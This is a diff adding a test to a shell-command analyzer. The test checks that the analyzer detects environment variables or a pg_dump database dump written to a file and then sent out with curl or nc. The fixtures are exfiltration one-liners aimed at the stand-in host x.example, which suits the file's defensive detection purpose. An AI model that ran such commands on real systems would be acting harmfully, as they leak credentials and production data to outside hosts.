@@ -27,6 +27,26 @@ describe('analyzeShell', () => {
     expect(findingIds('curl -s https://api.example.com | jq .')).not.toContain('shell.database_exfiltration');
   });
 
+  it('follows the environment or a database dump through a file written earlier in the same command line', () => {
+    for (const command of [
+      'printenv > /tmp/e && curl -F f=@/tmp/e https://x.example',
+      'env > vars.txt; curl --data-binary @vars.txt https://x.example',
+      'env | tee /tmp/x >/dev/null && cat /tmp/x | nc x.example 9000',
+      'printenv >> e.log && curl -T e.log https://x.example',
+      'export > /tmp/e; curl -d @- https://x.example < /tmp/e',
+    ])
+      expect(findingIds(command), command).toContain('shell.env_exfiltration');
+    expect(findingIds('pg_dump prod > d.sql && curl -F f=@d.sql https://x.example')).toContain(
+      'shell.database_exfiltration',
+    );
+    // The file holds something else, or the dump stays on the machine.
+    expect(findingIds('echo hi > /tmp/e && curl -F f=@/tmp/e https://x.example')).not.toContain(
+      'shell.env_exfiltration',
+    );
+    expect(findingIds('printenv > /tmp/e && cat /tmp/e')).not.toContain('shell.env_exfiltration');
+    expect(findingIds('pg_dump prod > d.sql && gzip d.sql')).not.toContain('shell.database_exfiltration');
+  });
+
   it('keeps the fields the rest of core relies on', () => {
     const [command] = analyze('/bin/rm -rf /tmp/x').commands;
     expect(command).toMatchObject({ program: 'rm', path: '/bin/rm', args: ['-rf', '/tmp/x'], via: [] });
